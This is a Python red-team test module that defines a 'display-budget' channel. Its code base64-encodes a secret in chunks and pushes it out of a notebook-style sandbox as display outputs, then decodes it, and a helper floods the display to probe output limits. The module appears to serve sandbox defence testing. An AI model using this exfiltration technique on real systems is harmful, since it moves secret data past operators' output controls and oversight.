from __future__ import annotations

import base64

from tests.redteam.channel import channel
from tests.redteam.targets import Target

PART = 675_000
"""Bytes that make a text of 900 kB, which is shown; sixteen of them are shown of one cell."""
SHOW = """
import base64
from IPython.display import publish_display_data
for at in range({start}, {end}, {part}):
    publish_display_data({{"text/plain": base64.b64encode(secret[at:at + {part}]).decode()}})
"""
WASTE = """
from IPython.display import publish_display_data
for _ in range(16):
    publish_display_data({"text/plain": "x" * 900_000});
"""


@channel(
    "display-budget",
    "A file of twelve megabytes as texts, each of a size that is shown",
    closed_by="display budget: past it outputs are withheld",
    size=12 << 20,
    stage=3,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    shown = []
    for start in range(0, len(secret), 16 * PART):
        end = min(start + 16 * PART, len(secret))
        got = site.run(SHOW.format(start=start, end=end, part=PART), within=20)
        shown += [m.content["data"].get("text/plain", "") for m in got if m.type == "display_data"]
    try:
        return b"".join(base64.b64decode(text) for text in shown)
    except ValueError:
        return None


def spend(site: Target) -> None:
    """Have as much shown as the display budget allows, if there is one."""
    for _ in range(2):
        if not [m for m in site.run(WASTE, within=20) if m.type == "display_data"]:
            return
